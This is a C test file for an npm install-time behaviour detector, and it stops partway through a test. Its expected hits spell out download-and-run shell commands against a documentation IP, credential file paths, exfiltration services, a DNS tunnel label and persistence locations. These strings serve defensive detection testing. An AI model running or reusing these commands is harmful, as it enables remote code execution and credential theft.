/*
 * tests/rules/test_rules.c - behaviour rules on first-seen recordings, the
 * rule format, the config's rules: section and the baseline policy.
 */
#include <check.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "fangs/fangs.h"
#include "rules/internal.h"
#include "scan/internal.h"

#define REGISTRY "registry.example"

static fangs_event_list events;
static fangs_deviation_list hits;
static fangs_rules *rules;

static void setup(void)
{
	memset(&events, 0, sizeof(events));
	memset(&hits, 0, sizeof(hits));
	ck_assert_int_eq(fangs_rules_new(&rules, NULL), 0);
}

static void teardown(void)
{
	fangs_event_list_free(&events);
	fangs_deviation_list_free(&hits);
	fangs_rules_free(rules);
}

static void load(const char *name)
{
	char path[1024];
	const char *root = getenv("FANGS_SOURCE_ROOT");
	snprintf(path, sizeof(path), "%s/tests/rules/fixtures/%s", root ? root : ".", name);
	ck_assert_msg(fangs_events_read_file(&events, path) == 0, "%s: %s", path, fangs_error_last());
	for (size_t i = 0; i < events.count; i++)
		events.items[i].id = (int64_t)i + 1; /* = line number */
}

static void evaluate_with(const fangs_rules *rs, const char *registry, int processes_left)
{
	fangs_rules_input in = FANGS_RULES_INPUT_INIT;
	in.run_id = "r1";
	in.package = "pkg";
	in.version = "1.0.0";
	in.events = events.items;
	in.n_events = events.count;
	in.registry_host = registry;
	in.processes_left = processes_left;
	fangs_deviation_list_free(&hits);
	ck_assert_msg(fangs_rules_evaluate(rs, &in, &hits) == 0, "%s", fangs_error_last());
}

static void evaluate(void)
{
	evaluate_with(rules, REGISTRY, -1);
}

static void dump(void)
{
	for (size_t i = 0; i < hits.count; i++)
		fprintf(stderr, "  hit %s %s %s\n", hits.items[i].kind, fangs_severity_name(hits.items[i].severity),
			hits.items[i].value);
}

static const fangs_deviation *find(const char *rule, const char *value)
{
	char kind[128];
	snprintf(kind, sizeof(kind), "rule:%s", rule);
	for (size_t i = 0; i < hits.count; i++)
		if (!strcmp(hits.items[i].kind, kind) && (!value || !strcmp(hits.items[i].value, value)))
			return &hits.items[i];
	return NULL;
}

static size_t count_rule(const char *rule)
{
	size_t n = 0;
	char kind[128];
	snprintf(kind, sizeof(kind), "rule:%s", rule);
	for (size_t i = 0; i < hits.count; i++)
		n += !strcmp(hits.items[i].kind, kind);
	return n;
}

/* The hit exists, says what it means, and its evidence is the right line. */
static const fangs_deviation *expect(const char *rule, const char *value, fangs_severity sev)
{
	const fangs_deviation *d = find(rule, value);
	if (!d)
		dump();
	ck_assert_msg(d, "expected rule %s to hit '%s'", rule, value ? value : "*");
	ck_assert_int_eq(d->severity, sev);
	ck_assert_ptr_nonnull(d->description);
	ck_assert(strlen(d->description) > 20);
	ck_assert_str_eq(d->run_id, "r1");
	ck_assert_str_eq(d->package, "pkg");
	ck_assert_uint_ge(d->n_evidence, 1);
	for (size_t i = 0; i < d->n_evidence; i++)
		ck_assert(d->evidence[i] >= 1 && d->evidence[i] <= (int64_t)events.count);
	return d;
}

static const fangs_event *evidence(const fangs_deviation *d, size_t i)
{
	ck_assert_uint_lt(i, d->n_evidence);
	return &events.items[d->evidence[i] - 1];
}

/* ---- one recording per rule that must hit ---- */

START_TEST(cred_read_by_script)
{
	const fangs_deviation *d;
	load("hit-cred-read.ndjson");
	evaluate();
	d = expect("cred-read-by-script", "~/.ssh/id_rsa", FANGS_SEV_CRITICAL);
	ck_assert_str_eq(evidence(d, 0)->path, "/root/.ssh/id_rsa");
	ck_assert_str_eq(d->origin.package, "cred-thief");
	ck_assert_str_eq(d->origin.script, "postinstall");
	ck_assert_int_eq(d->actor, FANGS_ACTOR_SCRIPT);
	expect("cred-read-by-script", "~/.aws/credentials", FANGS_SEV_CRITICAL);
	/* npm read ~/.npmrc in the same run: its own config is not a hit */
	ck_assert_ptr_null(find("cred-read-by-script", "~/.npmrc"));
	ck_assert_uint_eq(count_rule("cred-read-by-script"), 2);
}
END_TEST

/* The kernel's mark names the package; an environment that says another
 * name, or none, was forged. A decoy read by any alias is a credential
 * read. */
START_TEST(origin_forged_and_aliases)
{
	const fangs_deviation *d;
	load("hit-origin-forged.ndjson");
	evaluate();
	d = expect("origin-forged", "thief (postinstall) as npm_package_name=\"left-pad\"", FANGS_SEV_HIGH);
	ck_assert_int_eq(evidence(d, 0)->pid, 7003);
	ck_assert_str_eq(d->origin.package, "thief");
	d = expect("origin-env-cleared", "thief (postinstall) as npm_package_name=\"\"", FANGS_SEV_MEDIUM);
	ck_assert_int_eq(evidence(d, 0)->pid, 7004);
	ck_assert_uint_eq(count_rule("origin-forged"), 1);
	ck_assert_uint_eq(count_rule("origin-env-cleared"), 1);
	d = expect("cred-read-by-script", "~/.npmrc", FANGS_SEV_CRITICAL);
	ck_assert_str_eq(evidence(d, 0)->path, "cfg");
	expect("cred-read-by-script", "~/.aws/credentials", FANGS_SEV_CRITICAL);
}
END_TEST

START_TEST(network_not_registry)
{
	const fangs_deviation *d;
	load("hit-network.ndjson");
	evaluate();
	d = expect("script-network-not-registry", "collect.evil-host.example", FANGS_SEV_HIGH);
	/* the dns query and the server name are one finding */
	ck_assert_uint_eq(d->n_evidence, 2);
	ck_assert_int_eq(evidence(d, 0)->kind, FANGS_EV_DNS_QUERY);
	ck_assert_int_eq(evidence(d, 1)->kind, FANGS_EV_TLS_SNI);
	expect("script-network-not-registry", "198.51.100.23:443/tcp", FANGS_SEV_HIGH);
	/* the registry and the loopback resolver are not destinations */
	ck_assert_ptr_null(find("script-network-not-registry", REGISTRY));
	ck_assert_ptr_null(find("script-network-not-registry", "127.0.0.53:53/udp"));
	ck_assert_uint_eq(count_rule("script-network-not-registry"), 2);

	/* with no registry known, the registry's name counts too */
	evaluate_with(rules, NULL, -1);
	ck_assert_ptr_nonnull(find("script-network-not-registry", REGISTRY));
}
END_TEST

/* The sandbox's own endpoints (a bridge's resolver, a proxy) are given. */
START_TEST(network_sandbox_endpoints)
{
	static const char *const infra[] = {"198.51.100.23:443", "10.0.2.3:53"};
	static const char *const bad[] = {"not-an-address"};
	fangs_rules_input in = FANGS_RULES_INPUT_INIT;
	load("hit-network.ndjson");
	in.run_id = "r1";
	in.package = "pkg";
	in.version = "1.0.0";
	in.events = events.items;
	in.n_events = events.count;
	in.registry_host = REGISTRY;
	in.infra = infra;
	in.n_infra = 2;
	fangs_deviation_list_free(&hits);
	ck_assert_msg(fangs_rules_evaluate(rules, &in, &hits) == 0, "%s", fangs_error_last());
	ck_assert_ptr_null(find("script-network-not-registry", "198.51.100.23:443/tcp"));
	/* the name looked up still counts */
	expect("script-network-not-registry", "collect.evil-host.example", FANGS_SEV_HIGH);
	ck_assert_uint_eq(count_rule("script-network-not-registry"), 1);
	in.infra = bad;
	in.n_infra = 1;
	ck_assert_int_eq(fangs_rules_evaluate(rules, &in, &hits), FANGS_EINVAL);
	in.infra = NULL;
	ck_assert_int_eq(fangs_rules_evaluate(rules, &in, &hits), FANGS_EINVAL);
}
END_TEST

START_TEST(oob_services)
{
	load("hit-oob.ndjson");
	evaluate();
	expect("dns-oob-exfil-service", "cv3q8k2p1c0000a1b2c0g.oast.fun", FANGS_SEV_CRITICAL);
	expect("dns-oob-exfil-service", "discord.com", FANGS_SEV_CRITICAL);
	expect("dns-oob-exfil-service", "api.telegram.org", FANGS_SEV_CRITICAL);
}
END_TEST

START_TEST(dns_tunnel_label)
{
	const fangs_deviation *d;
	load("hit-dns-tunnel.ndjson");
	evaluate();
	d = expect("dns-tunnel-label", "2f726f6f742f2e7373682f69645f727361.4b4559.t.example", FANGS_SEV_HIGH);
	ck_assert_uint_eq(evidence(d, 0)->qtype, 16); /* TXT */
}
END_TEST

START_TEST(dns_many_subdomains)
{
	const fangs_deviation *d;
	load("hit-dns-subdomains.ndjson");
	evaluate();
	d = expect("dns-many-subdomains", "exfil.example (20 names)", FANGS_SEV_HIGH);
	ck_assert_uint_eq(d->n_evidence, 20);
	/* each name alone is short and plain: not a tunnel label */
	ck_assert_uint_eq(count_rule("dns-tunnel-label"), 0);
}
END_TEST

START_TEST(download_and_run)
{
	load("hit-download-run.ndjson");
	evaluate();
	expect("download-and-run", "sh -c curl -fsSL http://198.51.100.9/i.sh | bash", FANGS_SEV_CRITICAL);
	expect("download-and-run", "sh -c wget -q -O- http://198.51.100.9/x | sh -s", FANGS_SEV_CRITICAL);
	expect("download-and-run", "/bin/sh -c curl -s -o /tmp/.x http://198.51.100.9/x && chmod +x /tmp/.x && /tmp/.x",
	       FANGS_SEV_CRITICAL);
	ck_assert_uint_eq(count_rule("download-and-run"), 3);
}
END_TEST

START_TEST(persistence)
{
	load("hit-persistence.ndjson");
	evaluate();
	expect("persistence-shell-startup", "~/.bashrc", FANGS_SEV_CRITICAL);
	expect("persistence-cron-systemd", "/etc/cron.d/node-update", FANGS_SEV_CRITICAL);
	expect("persistence-cron-systemd", "~/.config/systemd/user/node-update.service", FANGS_SEV_CRITICAL);
	expect("persistence-ssh-authorized-keys", "~/.ssh/authorized_keys", FANGS_SEV_CRITICAL);
	/* writing a key file is persistence, not a credential read */
	ck_assert_uint_eq(count_rule("cred-read-by-script"), 0);
}
END_TEST

START_TEST(proc_environ_other)
{
	const fangs_deviation *d;
	load("hit-proc-environ.ndjson");
	evaluate();
	d = expect("proc-environ-other", "/proc/<pid>/environ", FANGS_SEV_HIGH);
	ck_assert_uint_eq(d->n_evidence, 1); /* /proc/self/environ is its own */
	ck_assert_str_eq(evidence(d, 0)->path, "/proc/1/environ");
}
END_TEST

/* nodemon's require runs `ps` (pstree.remy's probe for it): procps-ng 4
 * opens every listed process's environ, including ones outside the
 * package's tree (the sandbox's init, pid 1), and prints none of it. */
START_TEST(ps_listing_no_environ_theft)
{
	size_t environ_reads = 0;
	load("benign-ps-probe.ndjson");
	for (size_t i = 0; i < events.count; i++)
		environ_reads += events.items[i].path && strstr(events.items[i].path, "/environ") != NULL;
	ck_assert_uint_eq(environ_reads, 4); /* /proc/1, 13, 20, 21 */
	evaluate();
	if (count_rule("proc-environ-other"))
		dump();
	ck_assert_uint_eq(count_rule("proc-environ-other"), 0);
}
END_TEST

/* ps that shows environments (`e`), one the run dropped, one with a
 * library from /tmp, /dev/shm or a memfd loaded into it, one whose format
 * list holds an `e`: each stays a hit, each its own process in the
 * evidence. */
START_TEST(ps_environ_still_hits)
{
	const fangs_deviation *d;
	bool seen[6] = {false};
	load("hit-ps-environ.ndjson");
	evaluate();
	d = expect("proc-environ-other", "/proc/<pid>/environ", FANGS_SEV_HIGH);
	for (size_t i = 0; i < d->n_evidence; i++) {
		const fangs_event *e = evidence(d, i);
		ck_assert_int_ge(e->pid, 8031);
		ck_assert_int_le(e->pid, 8036);
		seen[e->pid - 8031] = true;
	}
	for (size_t k = 0; k < 6; k++)
		ck_assert_msg(seen[k], "ps process %zu read environ unseen", 8031 + k);
}
END_TEST

START_TEST(dropped_binary)
{
	const fangs_deviation *d;
	load("hit-dropped-binary.ndjson");
	evaluate();
	d = expect("dropped-binary-exec", "/tmp/.npm-helper", FANGS_SEV_HIGH);
	ck_assert_int_eq(evidence(d, 0)->kind, FANGS_EV_EXEC);
}
END_TEST

START_TEST(detached_process)
{
	const fangs_deviation *d;
	load("hit-detached.ndjson");
	evaluate();
	d = expect("detached-process", NULL, FANGS_SEV_HIGH);
	ck_assert_ptr_nonnull(strstr(d->value, "daemon.js"));
	ck_assert_int_eq(evidence(d, 0)->pid, 7040);
	ck_assert_uint_eq(count_rule("detached-process"), 1);
}
END_TEST

/* The time limit kills npm and what runs beside it at once: a process that
 * dies with a killed install did not outlive it; one that lives on after
 * the kill (by seconds) or that the install left behind still hits. */
static void kill_npm_then_exit(uint64_t after_ns)
{
	fangs_event *npm_exit = NULL, *e;
	load("hit-detached.ndjson");
	for (size_t i = 0; i < events.count; i++)
		if (events.items[i].kind == FANGS_EV_PROC_EXIT && events.items[i].pid == 7000)
			npm_exit = &events.items[i];
	ck_assert_ptr_nonnull(npm_exit);
	npm_exit->exit_code = 128 + 9;
	uint64_t ts = npm_exit->ts_ns;
	e = fangs_event_list_push(&events);
	ck_assert_ptr_nonnull(e);
	e->kind = FANGS_EV_PROC_EXIT;
	e->ts_ns = ts + after_ns;
	e->pid = 7040;
	e->ppid = 1;
	e->exit_code = 128 + 9;
	e->id = (int64_t)events.count;
}

START_TEST(detached_process_killed_install)
{
	/* killed with npm (0.5 s later): no detached process, and the
	 * sandbox's count at the time limit includes npm itself */
	kill_npm_then_exit(500000000ULL);
	evaluate_with(rules, REGISTRY, 3);
	ck_assert_uint_eq(count_rule("detached-process"), 0);
	fangs_event_list_free(&events);
	/* still alive 5 s after npm was killed: it outlived the install */
	kill_npm_then_exit(5000000000ULL);
	evaluate_with(rules, REGISTRY, 3);
	ck_assert_ptr_nonnull(find("detached-process", NULL));
	ck_assert_uint_eq(count_rule("detached-process"), 1);
}
END_TEST

START_TEST(processes_left_input)
{
	const fangs_deviation *d;
	/* nothing in the events, but the sandbox counted a survivor */
	load("benign-core-js.ndjson");
	evaluate_with(rules, REGISTRY, 2);
	d = find("detached-process", "2 processes left in the sandbox");
	ck_assert_ptr_nonnull(d);
	ck_assert_uint_eq(d->n_evidence, 0);
	evaluate_with(rules, REGISTRY, 0);
	ck_assert_uint_eq(hits.count, 0);
}
END_TEST

START_TEST(privileged_operations)
{
	const fangs_deviation *d;
	load("hit-privileged.ndjson");
	evaluate();
	d = expect("ptrace-by-script", "ptrace attach", FANGS_SEV_HIGH);
	ck_assert_int_eq(evidence(d, 0)->target, 7000);
	ck_assert_str_eq(d->origin.package, "evil");
	expect("mount-by-script", "mount tmpfs ~/.ssh", FANGS_SEV_HIGH);
	expect("namespace-by-script", "setns net", FANGS_SEV_MEDIUM);
	expect("signal-outside-tree", "kill SIGKILL node (run)", FANGS_SEV_HIGH);
	expect("kernel-code-load", "finit_module", FANGS_SEV_CRITICAL);
	expect("kernel-code-load", "bpf prog_load", FANGS_SEV_CRITICAL);
	expect("perf-event-open", "perf_event_open software", FANGS_SEV_MEDIUM);
	/* the sandbox's own namespaces (npm's side, before any script) are no hit */
	ck_assert_ptr_null(find("namespace-by-script", "unshare user,mnt,pid,net"));
	ck_assert_uint_eq(count_rule("namespace-by-script"), 1);
	ck_assert_uint_eq(count_rule("sensor-blinded"), 0);
}
END_TEST

START_TEST(events_lost_input)
{
	fangs_rules_input in = FANGS_RULES_INPUT_INIT;
	const fangs_deviation *d;

	load("benign-core-js.ndjson");
	in.run_id = "r1";
	in.package = "pkg";
	in.events = events.items;
	in.n_events = events.count;
	in.registry_host = REGISTRY;
	in.events_lost = 51234;
	ck_assert_int_eq(fangs_rules_evaluate(rules, &in, &hits), 0);
	d = find("sensor-blinded", "sensor blinded: 51234 events lost");
	ck_assert_ptr_nonnull(d);
	ck_assert_int_eq(d->severity, FANGS_SEV_HIGH);
	ck_assert_uint_eq(d->n_evidence, 0); /* what was lost has no event */
	ck_assert_uint_eq(hits.count, 1);
	fangs_deviation_list_free(&hits);
	in.events_lost = 0;
	ck_assert_int_eq(fangs_rules_evaluate(rules, &in, &hits), 0);
	ck_assert_uint_eq(hits.count, 0);
}
END_TEST

/* ---- ordinary install work: nothing at medium or above ---- */

static void expect_quiet(const char *name)
{
	load(name);
	evaluate();
	for (size_t i = 0; i < hits.count; i++)
		ck_assert_msg(hits.items[i].severity < FANGS_SEV_MEDIUM, "%s: %s hit '%s'", name, hits.items[i].kind,
			      hits.items[i].value);
}

START_TEST(benign_node_gyp)
{
	expect_quiet("benign-node-gyp.ndjson");
}
END_TEST

START_TEST(benign_esbuild)
{
	expect_quiet("benign-esbuild.ndjson");
}
END_TEST

START_TEST(benign_core_js)
{
	expect_quiet("benign-core-js.ndjson");
}
END_TEST

START_TEST(benign_husky)
{
	expect_quiet("benign-husky.ndjson");
}
END_TEST

/* A sandbox may run a helper before npm (docker): the install ends when npm
 * exits, not when the first process seen does. */
START_TEST(benign_helper_before_npm)
{
	expect_quiet("benign-helper-before-npm.ndjson");
	ck_assert_uint_eq(count_rule("detached-process"), 0);
}
END_TEST

START_TEST(benign_npm_network)
{
	expect_quiet("benign-banner-echo.ndjson");
}
END_TEST

/* ---- matchers ---- */

START_TEST(matchers)
{
	char host[64];
	ck_assert(fangs__rule_glob("~/.bashrc", "/root/.bashrc"));
	ck_assert(fangs__rule_glob("~/.bashrc", "/home/alice/.bashrc"));
	ck_assert(!fangs__rule_glob("~/.bashrc", "/home/alice/x/.bashrc"));
	ck_assert(!fangs__rule_glob("~/.bashrc", "/work/.bashrc"));
	ck_assert(fangs__rule_glob("/etc/cron*", "/etc/cron.d/x"));
	ck_assert(fangs__rule_glob("/etc/cron*", "/etc/crontab"));
	ck_assert(fangs__rule_host("*.oast.fun", "abc.oast.fun"));
	ck_assert(!fangs__rule_host("*.oast.fun", "oast.fun"));
	ck_assert(fangs__rule_host("webhook.site", "webhook.site"));
	ck_assert(fangs__rule_host("webhook.site", "x.webhook.site"));
	ck_assert(!fangs__rule_host("webhook.site", "notwebhook.site"));
	ck_assert(fangs__entropy("aaaa", 4) == 0.0);
	ck_assert(fangs__entropy("abcd", 4) == 2.0);
	ck_assert_int_eq(fangs_registry_host("https://Registry.Example:8443/npm/", host, sizeof(host)), 0);
	ck_assert_str_eq(host, "registry.example");
	ck_assert_int_eq(fangs_registry_host("http://u:p@[::1]:4873", host, sizeof(host)), 0);
	ck_assert_str_eq(host, "::1");
	ck_assert_int_eq(fangs_registry_host("registry.example", host, sizeof(host)), FANGS_EINVAL);
}
END_TEST

/* ---- hand-built runs: what an attacker who read the rules would try ---- */

#define PKGDIR "/work/project/node_modules/pkg"

static fangs_event *push(fangs_event_kind kind, int32_t pid, int32_t ppid, const char *comm, bool script)
{
	fangs_event *ev = fangs_event_list_push(&events);
	ck_assert_ptr_nonnull(ev);
	ev->kind = kind;
	ev->id = (int64_t)events.count;
	ev->ts_ns = 1000 * (uint64_t)events.count;
	ev->pid = pid;
	ev->ppid = ppid;
	ev->comm = strdup(comm);
	if (script) {
		ev->origin.package = strdup("pkg");
		ev->origin.version = strdup("1.1.0");
		ev->origin.script = strdup("postinstall");
		ev->origin.command = strdup("node install.js");
	}
	return ev;
}

static void ev_open(int32_t pid, const char *comm, bool script, const char *path, uint32_t flags)
{
	fangs_event *ev = push(FANGS_EV_FILE_OPEN, pid, 1, comm, script);
	ev->path = strdup(path);
	ev->flags = flags;
}

/* exec(pid, path, argv0, argv1, ..., NULL), by a lifecycle script */
static void ev_exec(int32_t pid, const char *path, ...)
{
	fangs_event *ev = push(FANGS_EV_EXEC, pid, 10, "x", true);
	const char *a;
	va_list ap;
	ev->path = strdup(path);
	ev->argv = calloc(16, sizeof(char *));
	va_start(ap, path);
	while ((a = va_arg(ap, const char *)) && ev->argc < 16)
		ev->argv[ev->argc++] = strdup(a);
	va_end(ap);
	free(ev->comm);
	ev->comm = strdup(strrchr(path, '/') ? strrchr(path, '/') + 1 : path);
}

static void ev_connect(int32_t pid, const char *addr, uint16_t port)
{
	fangs_event *ev = push(FANGS_EV_NET_CONNECT, pid, 10, "node", true);
	ev->family = strchr(addr, ':') ? FANGS_FAMILY_IPV6 : FANGS_FAMILY_IPV4;
	ev->addr = strdup(addr);
	ev->port = port;
	ev->proto = FANGS_PROTO_TCP;
}

static void ev_dns(int32_t pid, const char *qname)
{
	fangs_event *ev = push(FANGS_EV_DNS_QUERY, pid, 10, "node", true);
	ev->family = FANGS_FAMILY_IPV4;
	ev->addr = strdup("127.0.0.53");
	ev->port = 53;
	ev->proto = FANGS_PROTO_UDP;
	ev->qname = strdup(qname);
	ev->qtype = 1;
}

/* npm unpacks the package (its package.json tells where it lives), then
 * starts its postinstall. */
static void npm_unpacks(void)
{
	fangs_event *ev = push(FANGS_EV_EXEC, 1, 0, "node", false);
	ev->path = strdup("/usr/bin/node");
	ev->argv = calloc(2, sizeof(char *));
	ev->argv[ev->argc++] = strdup("node");
	ev->argv[ev->argc++] = strdup("/usr/share/nodejs/npm/bin/npm-cli.js");
	ev_open(1, "node", false, PKGDIR "/package.json", FANGS_OPEN_WRITE);
	ev_open(1, "node", false, PKGDIR "/install.js", FANGS_OPEN_WRITE);
	ev_open(1, "node", false, PKGDIR "/bin/tool", FANGS_OPEN_WRITE);
	ev_open(1, "node", false, PKGDIR "/lib/run.sh", FANGS_OPEN_WRITE);
	ev_exec(10, "/usr/bin/sh", "sh", "-c", "node install.js", NULL);
	ev_exec(11, "/usr/bin/node", "node", "install.js", NULL);
}

static void evaluate_addrs(const char *const *addrs, size_t n)
{
	fangs_rules_input in = FANGS_RULES_INPUT_INIT;
	in.run_id = "r1";
	in.package = "pkg";
	in.version = "1.1.0";
	in.events = events.items;
	in.n_events = events.count;
	in.registry_host = REGISTRY;
	in.registry_addrs = addrs;
	in.n_registry_addrs = n;
	fangs_deviation_list_free(&hits);
	ck_assert_msg(fangs_rules_evaluate(rules, &in, &hits) == 0, "%s", fangs_error_last());
}

START_TEST(registry_by_host_address)
{
	static const char *const addrs[] = {"192.0.2.10", "2001:db8::10"};
	npm_unpacks();
	/* the script asks for the registry's name (the sandbox's resolver
	 * answers what it likes), then connects elsewhere */
	ev_dns(11, REGISTRY);
	ev_connect(11, "203.0.113.9", 443);
	/* the registry's own addresses, as the host resolved them */
	ev_connect(11, "192.0.2.10", 443);
	ev_connect(11, "::ffff:192.0.2.10", 443);
	ev_connect(11, "2001:db8::10", 443);
	/* the sandbox's loopback sink */
	ev_connect(11, "127.0.0.1", 443);
	evaluate_addrs(addrs, 2);
	expect("script-network-not-registry", "203.0.113.9:443/tcp", FANGS_SEV_HIGH);
	ck_assert_uint_eq(count_rule("script-network-not-registry"), 1);

	/* no address known: the registry's address counts too, its name not */
	evaluate_addrs(NULL, 0);
	expect("script-network-not-registry", "192.0.2.10:443/tcp", FANGS_SEV_HIGH);
	ck_assert_ptr_null(find("script-network-not-registry", REGISTRY));
	/* (the IPv4-mapped address is the same value as the IPv4 one) */
	ck_assert_uint_eq(count_rule("script-network-not-registry"), 3);
}
END_TEST

START_TEST(registry_addrs_resolved)
{
	char **a = NULL;
	size_t n = 0;
	ck_assert_int_eq(fangs_registry_addrs("127.0.0.1", &a, &n), 0);
	ck_assert_uint_eq(n, 1);
	ck_assert_str_eq(a[0], "127.0.0.1");
	fangs_registry_addrs_free(a, n);
	ck_assert_int_eq(fangs_registry_addrs("::1", &a, &n), 0);
	ck_assert_uint_eq(n, 1);
	ck_assert_str_eq(a[0], "::1");
	fangs_registry_addrs_free(a, n);
	ck_assert_int_eq(fangs_registry_addrs("localhost", &a, &n), 0);
	ck_assert_uint_ge(n, 1);
	fangs_registry_addrs_free(a, n);
	ck_assert_int_eq(fangs_registry_addrs("no-such-registry.invalid", &a, &n), FANGS_ENOTFOUND);
	ck_assert_ptr_null(a);
	ck_assert_uint_eq(n, 0);
}
END_TEST

static void expect_dropped(const char *value)
{
	evaluate();
	expect("dropped-binary-exec", value, FANGS_SEV_HIGH);
}

START_TEST(dropped_after_rename)
{
	npm_unpacks();
	/* written under one name, renamed (unseen), run under another */
	ev_open(11, "node", true, "/tmp/.cache-x/a.part", FANGS_OPEN_WRITE);
	ev_exec(12, "/tmp/.cache-x/helper", "/tmp/.cache-x/helper", NULL);
	expect_dropped("/tmp/.cache-x/helper");
}
END_TEST

START_TEST(dropped_renamed_anywhere)
{
	fangs_event *ev;
	/* node and npm from a home-directory install (nvm) */
	ev = push(FANGS_EV_EXEC, 1, 0, "node", false);
	ev->path = strdup("/root/.nvm/versions/node/v20.19.2/bin/node");
	ev->argv = calloc(2, sizeof(char *));
	ev->argv[ev->argc++] = strdup("node");
	ev->argv[ev->argc++] = strdup("/root/.nvm/versions/node/v20.19.2/lib/node_modules/npm/bin/npm-cli.js");
	ev_open(1, "node", false, PKGDIR "/package.json", FANGS_OPEN_WRITE);
	ev_open(1, "node", false, PKGDIR "/install.js", FANGS_OPEN_WRITE);
	/* written in the package, renamed where no script wrote */
	ev_open(11, "node", true, "/tmp/stage", FANGS_OPEN_WRITE);
	ev_exec(12, "/root/.local/bin/helper", "helper", NULL);
	ev_exec(13, "/var/helper", "helper2", NULL);
	/* the install's own node, the system's programs, /opt, /proc/self/exe */
	ev_exec(14, "/root/.nvm/versions/node/v20.19.2/bin/node", "node", "install.js", NULL);
	ev_exec(15, "/usr/bin/git", "git", "rev-parse", NULL);
	ev_exec(16, "/opt/yarn-v1.22.19/bin/yarn", "yarn", "build", NULL);
	ev_exec(17, "/proc/self/exe", "node", NULL);
	evaluate();
	expect("dropped-binary-exec", "helper", FANGS_SEV_HIGH);
	expect("dropped-binary-exec", "helper2", FANGS_SEV_HIGH);
	ck_assert_uint_eq(count_rule("dropped-binary-exec"), 2);
}
END_TEST

START_TEST(dropped_moved_in_package_tree)
{
	npm_unpacks();
	/* written relative to the package, moved into a directory npm made */
	ev_open(11, "node", true, "build/x.tmp", FANGS_OPEN_WRITE);
	ev_exec(12, PKGDIR "/lib/helper", PKGDIR "/lib/helper", NULL);
	/* the package's own files are not drops */
	ev_exec(13, PKGDIR "/bin/tool", PKGDIR "/bin/tool", "--version", NULL);
	ev_exec(14, "/usr/bin/sh", "sh", "lib/run.sh", NULL);
	ev_exec(15, "/usr/bin/node", "node", "./install.js", NULL);
	/* `cd lib && sh run.sh`: the working directory is not the package's,
	 * the file is still one npm unpacked */
	ev_exec(16, "/usr/bin/sh", "sh", "run.sh", NULL);
	expect_dropped(PKGDIR "/lib/helper");
	ck_assert_uint_eq(count_rule("dropped-binary-exec"), 1);

	/* `cd /tmp/x && node install.js`: a file written under a shipped
	 * file's name elsewhere is not the shipped one */
	ev_open(11, "node", true, "/tmp/x/install.js", FANGS_OPEN_WRITE);
	ev_exec(17, "/usr/bin/node", "node", "install.js", NULL);
	evaluate();
	expect("dropped-binary-exec", "node install.js", FANGS_SEV_HIGH);
}
END_TEST

START_TEST(dropped_through_the_loader)
{
	npm_unpacks();
	ev_open(11, "node", true, "payload", FANGS_OPEN_WRITE);
	ev_open(11, "node", true, "/var/tmp/p2", FANGS_OPEN_WRITE);
	ev_exec(12, "/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2", "./payload", NULL);
	ev_exec(13, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "ld.so", "--library-path", "/tmp", "/var/tmp/p2",
		NULL);
	/* the loader running a system binary is not a drop */
	ev_exec(14, "/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2", "/usr/bin/true", NULL);
	expect_dropped("/lib64/ld-linux-x86-64.so.2 ./payload");
	expect_dropped("ld.so --library-path /tmp /var/tmp/p2");
	ck_assert_uint_eq(count_rule("dropped-binary-exec"), 2);
}
END_TEST

START_TEST(dropped_interpreter_script)
{
	npm_unpacks();
	ev_open(11, "node", true, "/tmp/s.sh", FANGS_OPEN_WRITE);
	ev_open(11, "node", true, "/tmp/b.js", FANGS_OPEN_WRITE);
	ev_open(11, "node", true, "/tmp/c.py", FANGS_OPEN_WRITE);
	ev_open(11, "node", true, "/tmp/d.js", FANGS_OPEN_WRITE);
	ev_exec(12, "/usr/bin/sh", "sh", "/tmp/s.sh", NULL);
	ev_exec(13, "/usr/bin/bash", "bash", "-e", "/tmp/s.sh", "arg", NULL);
	ev_exec(14, "/usr/bin/node", "node", "/tmp/b.js", NULL);
	ev_exec(15, "/usr/bin/python3.11", "python3", "-u", "/tmp/c.py", NULL);
	ev_exec(16, "/usr/bin/node", "node", "-r", "/tmp/d.js", "install.js", NULL);
	/* inline code is not a script file */
	ev_exec(17, "/usr/bin/sh", "sh", "-c", "/tmp/s.sh is only text here", NULL);
	expect_dropped("sh /tmp/s.sh");
	expect_dropped("bash -e /tmp/s.sh arg");
	expect_dropped("node /tmp/b.js");
	expect_dropped("python3 -u /tmp/c.py");
	expect_dropped("node -r /tmp/d.js install.js");
	ck_assert_uint_eq(count_rule("dropped-binary-exec"), 5);
}
END_TEST

/* An open by node that reached a file (the kernel's path): what it ran. */
static void node_reads(int32_t pid, const char *path)
{
	ev_open(pid, "node", true, path, FANGS_OPEN_READ);
	events.items[events.count - 1].real_path = strdup(path);
}

/* `node install/check` runs install/check.js when there is no file
 * install/check: the package's own file, not a drop. What node really ran
 * decides, so a dropped extension-less file or a dropped .js stays one. */
START_TEST(node_resolves_shipped_module)
{
	npm_unpacks();
	ev_open(1, "node", false, PKGDIR "/install/check.js", FANGS_OPEN_WRITE);
	ev_open(1, "node", false, PKGDIR "/bin/post-install.js", FANGS_OPEN_WRITE);
	ev_exec(20, "/usr/bin/node", "node", "install/check", NULL);
	node_reads(20, PKGDIR "/install/check.js");
	ev_exec(21, "/usr/bin/node", "node", "./bin/post-install", NULL);
	node_reads(21, PKGDIR "/bin/post-install.js");
	evaluate();
	ck_assert_uint_eq(count_rule("dropped-binary-exec"), 0);

	/* node ran the extension-less file itself (put there unseen) */
	ev_exec(22, "/usr/bin/node", "node", "lib/x", NULL);
	node_reads(22, PKGDIR "/lib/x");
	/* node resolved lib/y to lib/y.js, which a script wrote */
	ev_open(11, "node", true, PKGDIR "/lib/y.js", FANGS_OPEN_WRITE);
	ev_exec(23, "/usr/bin/node", "node", "lib/y", NULL);
	node_reads(23, PKGDIR "/lib/y.js");
	/* no open seen at all: nothing excuses it */
	ev_exec(24, "/usr/bin/node", "node", "lib/z", NULL);
	evaluate();
	expect_dropped("node lib/x");
	expect_dropped("node lib/y");
	expect_dropped("node lib/z");
	ck_assert_uint_eq(count_rule("dropped-binary-exec"), 3);
}
END_TEST

START_TEST(dropped_compiled_program)
{
	npm_unpacks();
	ev_exec(12, "/usr/bin/cc", "cc", "-o", "a.out", "x.c", NULL);
	ev_open(13, "ld", true, PKGDIR "/a.out", FANGS_OPEN_WRITE);
